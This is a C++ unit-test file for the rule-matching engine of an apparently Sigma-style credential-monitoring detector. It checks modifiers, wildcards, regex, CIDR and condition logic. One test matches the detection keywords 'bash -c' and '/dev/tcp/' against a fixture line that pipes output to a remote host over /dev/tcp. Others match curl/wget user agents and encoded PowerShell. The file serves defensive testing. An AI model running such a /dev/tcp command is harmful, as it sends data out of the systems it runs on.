// Single-event matching: value modifiers, wildcards and case, types, null and
// exists, keywords, and the condition operators.
#include <algorithm>
#include <string>

#include "gtest/gtest.h"
#include "rules/rules_test_util.h"

namespace credwatch::rules {
namespace {

using testing::EventFactory;
using testing::MustCompile;
using testing::RuleText;

class MatchingTest : public ::testing::Test {
 protected:
  // Whether the rule `r1` built from `detection` fires on `e`.
  bool Fires(std::string_view detection, const Event& e,
             std::string_view logsource = "product: credwatch", LoadOptions options = {}) {
    auto set = MustCompile(RuleText(detection, logsource), options);
    if (!set) return false;
    return testing::CountRule(testing::RunEvents(set, {e}), "r1") == 1;
  }
  Event User(std::string_view credential) {
    Event e = f_.Native();
    e.credential = f_.S(credential);
    return e;
  }
  EventFactory f_;
};

TEST_F(MatchingTest, PlainValueIsCaseInsensitiveEquality) {
  EXPECT_TRUE(Fires("sel:\n  credential: Alice\ncondition: sel", User("alice")));
  EXPECT_TRUE(Fires("sel:\n  credential: alice\ncondition: sel", User("ALICE")));
  EXPECT_FALSE(Fires("sel:\n  credential: alice\ncondition: sel", User("alice2")));
  EXPECT_FALSE(Fires("sel:\n  credential: alice\ncondition: sel", User("xalice")));
}

TEST_F(MatchingTest, WildcardsStarAndQuestionMark) {
  const char* star = "sel:\n  credential: 'adm*'\ncondition: sel";
  EXPECT_TRUE(Fires(star, User("ADMIN")));
  EXPECT_FALSE(Fires(star, User("sysadm")));
  const char* q = "sel:\n  credential: 'a?ice'\ncondition: sel";
  EXPECT_TRUE(Fires(q, User("alice")));
  EXPECT_FALSE(Fires(q, User("aice")));
  EXPECT_TRUE(Fires(q, User("a\xC3\xA9ice")));  // '?' is one UTF-8 character
  const char* mid = "sel:\n  credential: 'svc-*-prod?'\ncondition: sel";
  EXPECT_TRUE(Fires(mid, User("svc-backup-prod1")));
  EXPECT_FALSE(Fires(mid, User("svc-backup-prod")));
}

TEST_F(MatchingTest, EscapedWildcardsAreLiteral) {
  const char* lit = R"(sel:
  credential: 'a\*b'
condition: sel)";
  EXPECT_TRUE(Fires(lit, User("a*b")));
  EXPECT_FALSE(Fires(lit, User("axxb")));
  // "\\*" is a backslash followed by a wildcard.
  const char* bs = R"(sel:
  credential: 'dom\\*'
condition: sel)";
  EXPECT_TRUE(Fires(bs, User("dom\\alice")));
  // A lone backslash before another character stays.
  const char* path = R"(sel:
  credential: 'DOM\alice'
condition: sel)";
  EXPECT_TRUE(Fires(path, User("dom\\alice")));
}

TEST_F(MatchingTest, ContainsStartsWithEndsWith) {
  EXPECT_TRUE(Fires("sel:\n  credential|contains: MIN\ncondition: sel", User("sysadmin1")));
  EXPECT_FALSE(Fires("sel:\n  credential|contains: root\ncondition: sel", User("sysadmin1")));
  EXPECT_TRUE(Fires("sel:\n  credential|startswith: SYS\ncondition: sel", User("sysadmin1")));
  EXPECT_FALSE(Fires("sel:\n  credential|startswith: admin\ncondition: sel", User("sysadmin1")));
  EXPECT_TRUE(Fires("sel:\n  credential|endswith: 'IN1'\ncondition: sel", User("sysadmin1")));
  EXPECT_FALSE(Fires("sel:\n  credential|endswith: 'sys'\ncondition: sel", User("sysadmin1")));
  // Wildcards inside contains still work.
  EXPECT_TRUE(Fires("sel:\n  credential|contains: 'a*1'\ncondition: sel", User("xxadmin1yy")));
}

TEST_F(MatchingTest, ContainsOnLongValuesAtEveryPosition) {
  // Long values take the 16-byte scan; the needle may sit anywhere.
  const std::string needle = "ExfilTarget";
  for (size_t pos = 0; pos <= 70; pos += 7) {
    std::string text(80, 'x');
    text.replace(pos, needle.size(), pos % 2 ? "EXFILTARGET" : "exfiltarget");
    Event e = f_.Native();
    e.object = f_.S(text.substr(0, std::max(pos + needle.size(), size_t{20})));
    EXPECT_TRUE(Fires("sel:\n  object|contains: " + needle + "\ncondition: sel", e)) << pos;
    Event miss = f_.Native();
    std::string broken = text;
    broken[pos + 5] = '_';
    miss.object = f_.S(broken);
    EXPECT_FALSE(Fires("sel:\n  object|contains: " + needle + "\ncondition: sel", miss)) << pos;
  }
  Event e = f_.Native();
  e.object = f_.S(std::string(40, 'e') + "xfil");  // first letter everywhere, match only at the end
  EXPECT_TRUE(Fires("sel:\n  object|contains: exfil\ncondition: sel", e));
}

TEST_F(MatchingTest, ListIsOrAndAllModifierIsAnd) {
  const char* any = "sel:\n  credential|contains:\n    - root\n    - admin\ncondition: sel";
  EXPECT_TRUE(Fires(any, User("sysadmin")));
  EXPECT_FALSE(Fires(any, User("alice")));
  const char* all = "sel:\n  credential|contains|all:\n    - sys\n    - admin\ncondition: sel";
  EXPECT_TRUE(Fires(all, User("sysadmin")));
  EXPECT_FALSE(Fires(all, User("admin")));
}

TEST_F(MatchingTest, MapIsAndListOfMapsIsOr) {
  Event e = User("alice");
  e.tenant = f_.S("t001");
  EXPECT_TRUE(Fires("sel:\n  credential: alice\n  tenant: t001\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  credential: alice\n  tenant: t002\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  - credential: bob\n  - tenant: t001\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  - credential: bob\n  - tenant: t002\ncondition: sel", e));
}

TEST_F(MatchingTest, CasedModifier) {
  EXPECT_TRUE(Fires("sel:\n  credential|cased: Alice\ncondition: sel", User("Alice")));
  EXPECT_FALSE(Fires("sel:\n  credential|cased: Alice\ncondition: sel", User("alice")));
  EXPECT_FALSE(Fires("sel:\n  credential|contains|cased: LIC\ncondition: sel", User("alice")));
}

TEST_F(MatchingTest, RegexIsCaseSensitiveUnlessAsked) {
  const char* re = "sel:\n  credential|re: '^adm-[0-9]+$'\ncondition: sel";
  EXPECT_TRUE(Fires(re, User("adm-42")));
  EXPECT_FALSE(Fires(re, User("ADM-42")));
  EXPECT_FALSE(Fires(re, User("adm-42x")));
  EXPECT_TRUE(Fires("sel:\n  credential|re|i: '^adm-[0-9]+$'\ncondition: sel", User("ADM-42")));
  EXPECT_TRUE(Fires("sel:\n  credential|re: '(?i)^adm-[0-9]+$'\ncondition: sel", User("ADM-42")));
  // Unanchored search, like Sigma backends.
  EXPECT_TRUE(Fires("sel:\n  credential|re: 'dm-4'\ncondition: sel", User("adm-42")));
}

TEST_F(MatchingTest, RegexLiteralPrefilterNeverChangesTheAnswer) {
  struct Case {
    const char* re;
    const char* text;
    bool match;
  };
  const Case cases[] = {
      {"'.+:assumed-role/aws:.+'", "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1", true},
      {"'.+:assumed-role/aws:.+'", "arn:aws:sts::1:assumed-role/admin/x", false},
      {"'(?i)(python-requests|curl|wget)/[0-9.]+'", "CURL/7.88.1", true},
      {"'(?i)(python-requests|curl|wget)/[0-9.]+'", "OpenSSH_8.4", false},
      {"'colou?r'", "color", true},
      {"'ab?c'", "ac", true},
      {"'x(abc)?y'", "xy", true},
      {"'a(b|cd)e'", "acde", true},
      {"'a(?:b|cd)e'", "abe", true},
      {"'a\\.b+c'", "a.bbbc", true},
      {"'a\\.b+c'", "axbc", false},
      {"'(?i)kelvin'",
       "\xE2\x84\xAA"
       "elvin",
       true},  // U+212A KELVIN SIGN
      {"'(?i)ADMIN'", "sysadmin", true},
      {"'^adm[0-9]{2,3}$'", "adm123", true},
      {"'(a|b)|c'", "c", true},
  };
  for (const Case& c : cases) {
    Event e = User(c.text);
    EXPECT_EQ(Fires(std::string("sel:\n  credential|re: ") + c.re + "\ncondition: sel", e), c.match)
        << c.re << " on " << c.text;
  }
}

TEST_F(MatchingTest, CidrOnIpFields) {
  Event e = f_.Native();
  f_.SetSrcIp(e, "10.20.30.40");
  EXPECT_TRUE(Fires("sel:\n  src.ip|cidr: 10.0.0.0/8\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  src.ip|cidr: 192.168.0.0/16\ncondition: sel", e));
  EXPECT_TRUE(
      Fires("sel:\n  src.ip|cidr:\n    - 192.168.0.0/16\n    - 10.20.0.0/16\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  src.ip: 10.20.30.40\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  src.ip: 10.20.30.41\ncondition: sel", e));
  Event v6 = f_.Native();
  f_.SetSrcIp(v6, "2001:db8::7");
  EXPECT_TRUE(Fires("sel:\n  src.ip|cidr: '2001:db8::/32'\ncondition: sel", v6));
  EXPECT_FALSE(Fires("sel:\n  src.ip|cidr: 10.0.0.0/8\ncondition: sel", v6));
  EXPECT_TRUE(Fires("sel:\n  src.ip: '2001:DB8:0::7'\ncondition: sel",
                    v6));  // same address, other spelling
}

TEST_F(MatchingTest, NumericComparisons) {
  Event e = f_.Native();
  e.bytes = 5000;
  EXPECT_TRUE(Fires("sel:\n  bytes|gt: 4999\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  bytes|gt: 5000\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  bytes|gte: 5000\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  bytes|lt: 5001\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  bytes|lt: 5000\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  bytes|lte: 5000\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  bytes: 5000\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  bytes: '5000'\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  bytes: 50\ncondition: sel", e));
  e.profile.valid = true;
  e.profile.read_ratio_24h = 12.5;
  EXPECT_TRUE(Fires("sel:\n  profile.read_ratio_24h|gte: 10.5\ncondition: sel", e));
  // Absent numeric field never compares.
  Event none = f_.Native();
  EXPECT_FALSE(Fires("sel:\n  bytes|lt: 100\ncondition: sel", none));
}

TEST_F(MatchingTest, NumbersInSourceFieldsCompareNumerically) {
  auto set = MustCompile(RuleText("sel:\n  count|gte: 10\n  code: 200\ncondition: sel",
                                  "product: aws\nservice: cloudtrail"));
  ASSERT_TRUE(set);
  Event e = f_.CloudTrail();
  f_.Extra(e, *set, Namespace::kCloudTrail, "count", "12");
  f_.Extra(e, *set, Namespace::kCloudTrail, "code", "200.0");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {e}), "r1"), 1);
  Event low = f_.CloudTrail();
  f_.Extra(low, *set, Namespace::kCloudTrail, "count", "9");
  f_.Extra(low, *set, Namespace::kCloudTrail, "code", "200");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {low}), "r1"), 0);
}

TEST_F(MatchingTest, BooleansAndTriState) {
  Event e = f_.Native();
  e.src_internal = Tri::kFalse;
  EXPECT_TRUE(Fires("sel:\n  src.internal: false\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  src.internal: true\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  src.internal: 'false'\ncondition: sel", e));
  Event unset = f_.Native();
  EXPECT_FALSE(Fires("sel:\n  src.internal: false\ncondition: sel", unset));
  EXPECT_TRUE(Fires("sel:\n  src.internal: null\ncondition: sel", unset));
}

TEST_F(MatchingTest, ProfileFieldsNeedAProfile) {
  Event e = f_.Native();
  e.action = Action::kLogin;
  EXPECT_FALSE(Fires("sel:\n  profile.src_new: true\ncondition: sel", e));
  e.profile.valid = true;
  e.profile.src_new = true;
  EXPECT_TRUE(Fires(
      "sel:\n  action: login\n  profile.src_new: true\n  profile.learning: false\ncondition: sel",
      e));
  e.profile.learning = true;
  EXPECT_FALSE(Fires(
      "sel:\n  action: login\n  profile.src_new: true\n  profile.learning: false\ncondition: sel",
      e));
}

TEST_F(MatchingTest, NullMeansAbsentAndExists) {
  Event e = User("alice");
  EXPECT_TRUE(Fires("sel:\n  tenant: null\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  credential: null\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  credential|exists: true\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  tenant|exists: true\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  tenant|exists: false\ncondition: sel", e));
  EXPECT_TRUE(
      Fires("sel:\n  credential: alice\nfilter:\n  tenant: null\ncondition: sel and filter", e));
}

TEST_F(MatchingTest, EmptyStringIsNotNull) {
  auto set = MustCompile(
      RuleText("sel:\n  errorCode: ''\ncondition: sel", "product: aws\nservice: cloudtrail"));
  ASSERT_TRUE(set);
  Event e = f_.CloudTrail();
  f_.Extra(e, *set, Namespace::kCloudTrail, "errorCode", "");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {e}), "r1"), 1);
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {f_.CloudTrail()}), "r1"), 0);
}

TEST_F(MatchingTest, Neq) {
  Event e = f_.Native();
  e.outcome = Outcome::kFailure;
  EXPECT_TRUE(Fires("sel:\n  outcome|neq: success\ncondition: sel", e));
  e.outcome = Outcome::kSuccess;
  EXPECT_FALSE(Fires("sel:\n  outcome|neq: success\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  outcome|neq:\n    - success\n    - failure\ncondition: sel", e));
  // An absent field is not "different".
  EXPECT_FALSE(Fires("sel:\n  tenant|neq: t001\ncondition: sel", e));
}

TEST_F(MatchingTest, FieldRef) {
  Event e = f_.Native();
  e.tenant = f_.S("t001");
  e.object_tenant = f_.S("T001");
  EXPECT_TRUE(Fires("sel:\n  object.tenant|fieldref: tenant\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  object.tenant|fieldref|neq: tenant\ncondition: sel", e));
  e.object_tenant = f_.S("t002");
  EXPECT_TRUE(Fires("sel:\n  object.tenant|fieldref|neq: tenant\ncondition: sel", e));
  Event p = f_.Native();
  p.object = f_.S("/data/t001/records.csv");
  p.tenant = f_.S("t001");
  EXPECT_TRUE(Fires("sel:\n  object|fieldref|contains: tenant\ncondition: sel", p));
}

TEST_F(MatchingTest, Base64AndOffsets) {
  Event e = f_.Native();
  e.user_agent = f_.S("x aGVsbG8= y");  // base64("hello")
  EXPECT_TRUE(Fires("sel:\n  user_agent|base64|contains: hello\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  user_agent|base64|contains: Hello\ncondition: sel", e));
  // "secret" inside base64("my secret data") = bXkgc2VjcmV0IGRhdGE=
  Event o = f_.Native();
  o.user_agent = f_.S("bXkgc2VjcmV0IGRhdGE=");
  EXPECT_TRUE(Fires("sel:\n  user_agent|base64offset|contains: secret\ncondition: sel", o));
  EXPECT_FALSE(Fires("sel:\n  user_agent|base64offset|contains: public\ncondition: sel", o));
  // UTF-16LE then base64: "hi" -> "aABpAA=="
  Event w = f_.Native();
  w.user_agent = f_.S("aABpAA==");
  EXPECT_TRUE(Fires("sel:\n  user_agent|wide|base64: hi\ncondition: sel", w));
}

TEST_F(MatchingTest, Windash) {
  const char* rule = "sel:\n  object|windash|contains: ' -enc '\ncondition: sel";
  Event a = f_.Native();
  a.object = f_.S("powershell /enc abc");
  EXPECT_TRUE(Fires(rule, a));
  Event b = f_.Native();
  b.object = f_.S(
      "powershell \xE2\x80\x93"
      "enc abc");
  EXPECT_TRUE(Fires(rule, b));
  Event c = f_.Native();
  c.object = f_.S("powershell enc abc");
  EXPECT_FALSE(Fires(rule, c));
}

TEST_F(MatchingTest, ExpandPlaceholders) {
  LoadOptions options;
  options.placeholders["Servers"] = {"srv-*", "db-01"};
  Event e = f_.Native();
  e.host = f_.S("SRV-17");
  EXPECT_TRUE(
      Fires("sel:\n  host|expand: '%Servers%'\ncondition: sel", e, "product: credwatch", options));
  e.host = f_.S("web-1");
  EXPECT_FALSE(
      Fires("sel:\n  host|expand: '%Servers%'\ncondition: sel", e, "product: credwatch", options));
}

TEST_F(MatchingTest, TimeParts) {
  Event late = f_.Native();
  late.time_ns = kNsPerSecond * 1735772400LL;  // 2025-01-01T23:00:00Z (Wednesday, ISO week 1)
  EXPECT_TRUE(Fires("sel:\n  time|hour|gte: 22\ncondition: sel", late));
  EXPECT_FALSE(Fires("sel:\n  time|hour|lt: 6\ncondition: sel", late));
  EXPECT_TRUE(Fires("sel:\n  time|month: 1\ncondition: sel", late));
  EXPECT_TRUE(Fires("sel:\n  time|year: 2025\ncondition: sel", late));
  EXPECT_TRUE(Fires("sel:\n  time|week: 1\ncondition: sel", late));
  EXPECT_TRUE(Fires("sel:\n  time|gte: '2025-01-01T22:00:00Z'\ncondition: sel", late));
}

TEST_F(MatchingTest, EnumFields) {
  Event e = f_.Native();
  e.kind = Kind::kAccess;
  e.action = Action::kRead;
  EXPECT_TRUE(Fires("sel:\n  kind: access\n  action: READ\ncondition: sel", e));
  EXPECT_FALSE(Fires("sel:\n  action: write\ncondition: sel", e));
  EXPECT_TRUE(Fires("sel:\n  action: 're*'\ncondition: sel", e));
}

TEST_F(MatchingTest, ConditionOperatorsAndPrecedence) {
  Event e = User("alice");
  e.tenant = f_.S("t001");
  const std::string sels = "a:\n  credential: alice\nb:\n  tenant: t002\nc:\n  credential: bob\n";
  EXPECT_TRUE(Fires(sels + "condition: a and not b", e));
  EXPECT_FALSE(Fires(sels + "condition: a and b", e));
  EXPECT_TRUE(Fires(sels + "condition: b or a", e));
  // and binds tighter than or: a or (b and c)
  EXPECT_TRUE(Fires(sels + "condition: a or b and c", e));
  EXPECT_FALSE(Fires(sels + "condition: (a or b) and c", e));
  EXPECT_TRUE(Fires(sels + "condition: not (b or c)", e));
  EXPECT_TRUE(Fires(sels + "condition: not b and not c", e));
  EXPECT_TRUE(Fires(sels + "condition: a AND NOT b", e));  // keywords are case-insensitive
}

TEST_F(MatchingTest, OneOfAllOfThem) {
  Event e = User("alice");
  const std::string sels =
      "sel_a:\n  credential: alice\nsel_b:\n  credential|startswith: al\nfilter_x:\n  credential: "
      "bob\n"
      "_hidden:\n  credential: nobody\n";
  EXPECT_TRUE(Fires(sels + "condition: all of sel_*", e));
  EXPECT_TRUE(Fires(sels + "condition: 1 of sel_* and not 1 of filter_*", e));
  EXPECT_FALSE(Fires(sels + "condition: all of them", e));  // filter_x fails
  EXPECT_TRUE(Fires(sels + "condition: 1 of them", e));
  EXPECT_TRUE(Fires(sels + "condition: any of sel*", e));
  EXPECT_TRUE(Fires(sels + "condition: 2 of sel_*", e));
  EXPECT_FALSE(Fires(sels + "condition: 2 of them", User("albert")));  // only sel_b
  // "them" skips identifiers starting with '_'.
  Event nobody = User("nobody");
  EXPECT_FALSE(Fires(sels + "condition: 1 of them", nobody));
  EXPECT_TRUE(Fires(sels + "condition: 1 of _hid*", nobody));
}

TEST_F(MatchingTest, ConditionList) {
  Event e = User("bob");
  EXPECT_TRUE(Fires("a:\n  credential: alice\nb:\n  credential: bob\ncondition:\n  - a\n  - b", e));
}

TEST_F(MatchingTest, KeywordsOnLinuxMessages) {
  auto set = MustCompile(
      RuleText("keywords:\n  - 'Corrupted MAC on input'\n  - 'Trojan*FOUND'\ncondition: keywords",
               "product: linux\nservice: sshd"));
  ASSERT_TRUE(set);
  EXPECT_EQ(set->projection(Format::kSyslog).paths.size(), 1u);
  EXPECT_EQ(set->projection(Format::kSyslog).paths[0].dotted, "MESSAGE");
  Event e = f_.Native();
  e.format = "syslog";
  f_.Extra(e, *set, Namespace::kLinux, "MESSAGE", "sshd[12]: corrupted mac on input from 1.2.3.4");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {e}), "r1"), 1);
  Event t = f_.Native();
  t.format = "journald";
  f_.Extra(t, *set, Namespace::kLinux, "MESSAGE", "scan: Trojan.X FOUND");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {t}), "r1"), 1);
  // Linux rules do not see other formats.
  Event ct = f_.CloudTrail();
  f_.Extra(ct, *set, Namespace::kLinux, "MESSAGE", "Corrupted MAC on input");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {ct}), "r1"), 0);
}

TEST_F(MatchingTest, KeywordsAllModifier) {
  auto set = MustCompile(
      RuleText("keywords:\n  '|all':\n    - 'bash -c'\n    - '/dev/tcp/'\ncondition: keywords",
               "product: linux"));
  ASSERT_TRUE(set);
  Event both = f_.Native();
  both.format = "syslog";
  f_.Extra(both, *set, Namespace::kLinux, "MESSAGE", "x bash -c 'cat >/dev/tcp/1.2.3.4/80'");
  Event one = f_.Native();
  one.format = "syslog";
  f_.Extra(one, *set, Namespace::kLinux, "MESSAGE", "x bash -c true");
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {both, one}), "r1"), 1);
}

TEST_F(MatchingTest, CloudTrailRulesSeeOnlyCloudTrailEvents) {
  auto set = MustCompile(RuleText("sel:\n  eventName: GetObject\ncondition: sel",
                                  "product: aws\nservice: cloudtrail"));
  ASSERT_TRUE(set);
  ASSERT_EQ(set->projection(Format::kCloudTrail).paths.size(), 1u);
  EXPECT_EQ(set->projection(Format::kCloudTrail).paths[0].dotted, "eventName");
  EXPECT_GE(set->projection(Format::kCloudTrail).paths[0].id,
            static_cast<uint16_t>(FieldId::kFirstExtra));
  Event ct = f_.CloudTrail();
  f_.Extra(ct, *set, Namespace::kCloudTrail, "eventName", "getobject");
  Event native = f_.Native();
  f_.Extra(native, *set, Namespace::kCloudTrail, "eventName", "GetObject");
  auto d = testing::RunEvents(set, {ct, native});
  EXPECT_EQ(testing::CountRule(d, "r1"), 1);
}

TEST_F(MatchingTest, CredwatchRulesSeeEveryFormat) {
  auto set = MustCompile(RuleText("sel:\n  action: read\ncondition: sel"));
  ASSERT_TRUE(set);
  Event a = f_.CloudTrail();
  a.action = Action::kRead;
  Event b = f_.Native();
  b.format = "journald";
  b.action = Action::kRead;
  EXPECT_EQ(testing::CountRule(testing::RunEvents(set, {a, b}), "r1"), 2);
}

TEST_F(MatchingTest, DetectionCarriesEventAndRuleFacts) {
  const std::string text =
      RuleText("sel:\n  action: read\ncondition: sel", "product: credwatch", "r1",
               "tags:\n  - attack.exfiltration\n  - attack.t1078.004\n  - attack.T1530\n");
  auto set = MustCompile(text);
  ASSERT_TRUE(set);
  Event e = f_.Native(5);
  e.action = Action::kRead;
  e.credential = f_.S("t001-alice");
  e.tenant = f_.S("t001");
  e.object = f_.S("/exports/h1/patients.csv");
  e.object_tenant = f_.S("h1");
  e.bytes = 1234;
  f_.SetSrcIp(e, "203.0.113.9");
  e.src_internal = Tri::kFalse;
  auto d = testing::RunEvents(set, {e});
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "r1");
  EXPECT_EQ(d[0].title, "test rule r1");
  EXPECT_EQ(d[0].severity, Severity::kHigh);
  EXPECT_EQ(d[0].attacks, (std::vector<std::string>{"T1078.004", "T1530"}));
  EXPECT_EQ(d[0].credential, "t001-alice");
  EXPECT_EQ(d[0].group_key, "t001-alice");
  EXPECT_EQ(d[0].src_ip, "203.0.113.9");
  EXPECT_EQ(d[0].time_ns, e.time_ns);
  ASSERT_EQ(d[0].evidences.size(), 1u);
  EXPECT_NE(d[0].evidences[0].find("\"credential\":\"t001-alice\""), std::string::npos);
  EXPECT_EQ(d[0].blast.bytes, 1234);
  EXPECT_EQ(d[0].blast.tenants, (std::vector<std::string>{"h1"}));
  EXPECT_EQ(d[0].blast.destinations, (std::vector<std::string>{"203.0.113.9"}));
}

TEST_F(MatchingTest, OutputOrderFollowsLoadOrder) {
  // Rules indexed under different fields and the always list still run in
  // load order.
  std::string text;
  text += RuleText("sel:\n  credential: alice\ncondition: sel", "product: credwatch", "a-first") +
          "---\n";
  text +=
      RuleText("sel:\n  action: read\ncondition: sel", "product: credwatch", "b-second") + "---\n";
  text += RuleText("sel:\n  kind: access\ncondition: sel", "product: credwatch", "c-third");
  auto set = MustCompile(text);
  ASSERT_TRUE(set);
  Event e = User("alice");
  e.action = Action::kRead;
  e.kind = Kind::kAccess;
  auto d = testing::RunEvents(set, {e});
  ASSERT_EQ(d.size(), 3u);
  EXPECT_EQ(d[0].rule_id, "a-first");
  EXPECT_EQ(d[1].rule_id, "b-second");
  EXPECT_EQ(d[2].rule_id, "c-third");
}

TEST_F(MatchingTest, IndexOnlyEvaluatesCandidates) {
  std::string text;
  for (int i = 0; i < 20; ++i) {
    text += RuleText("sel:\n  eventName: Op" + std::to_string(i) + "\ncondition: sel",
                     "product: aws\nservice: cloudtrail", "r" + std::to_string(i));
    text += "---\n";
  }
  text += RuleText("sel:\n  userAgent|contains: evil\ncondition: sel",
                   "product: aws\nservice: cloudtrail", "ua");
  auto set = MustCompile(text);
  ASSERT_TRUE(set);
  Evaluator eval(set);
  Event e = f_.CloudTrail();
  f_.Extra(e, *set, Namespace::kCloudTrail, "eventName", "OP7");
  std::vector<Detection> out;
  eval.Process(e, &out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule_id, "r7");
  EXPECT_EQ(eval.stats().candidates, 2u);  // r7 and the unindexed userAgent rule
}

}  // namespace
}  // namespace credwatch::rules
